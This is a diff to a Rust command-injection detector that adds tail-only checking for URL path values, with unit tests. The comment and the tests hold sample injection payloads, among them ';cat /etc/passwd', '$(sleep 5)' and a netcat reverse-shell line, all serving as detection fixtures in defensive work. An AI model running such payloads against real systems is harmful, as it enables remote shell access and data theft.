@@ -97,6 +97,18 @@ const MAX_VARS: usize = 16;
 /// `transform::class::CMDI_BYTES`).
 pub(crate) const PREFILTER: [bool; 256] = super::byte_set(b";|&\n`$'\"\\{^/<>%");
 
+/// [`detect`] for the `path` values of a request: only the tails the
+/// request view adds (from an unusual segment on: `| id`, `;cat /etc/passwd`,
+/// `$(id)/x`), never the whole path. A URL path starts with `/` and would
+/// read as a command given by absolute path (`/head`, `/bin/ls`); a tail
+/// does not, and a payload in the path starts at its segment.
+pub fn detect_path(input: &[u8]) -> Option<Detection> {
+    if input.first() == Some(&b'/') {
+        return None;
+    }
+    detect(input)
+}
+
 /// Decides whether `input` injects a command in one of the contexts listed
 /// in the module documentation.
 pub fn detect(input: &[u8]) -> Option<Detection> {
@@ -2312,6 +2324,18 @@ mod tests {
         assert!(!glob_match(b"c?", b"cat"));
         assert!(!glob_match(b"[x-z]at", b"cat"));
         assert!(glob_match(b"[", b"["));
+    }
+
+    #[test]
+    fn a_path_is_judged_by_its_tails_only() {
+        for whole in [&b"/head"[..], b"/bin/ls", b"/usr/bin/id", b"/p/;id"] {
+            assert!(detect_path(whole).is_none(), "{whole:?}");
+        }
+        assert!(detect_path(b";id").is_some());
+        assert!(detect_path(b"| nc -e /bin/sh 10.0.0.1 4444").is_some());
+        assert!(detect_path(b"$(sleep 5)/x").is_some());
+        assert!(detect_path(b"cats & dogs").is_none());
+        assert!(detect_path(b"jsessionid=ABC123;x=1").is_none());
     }
 
     #[test]
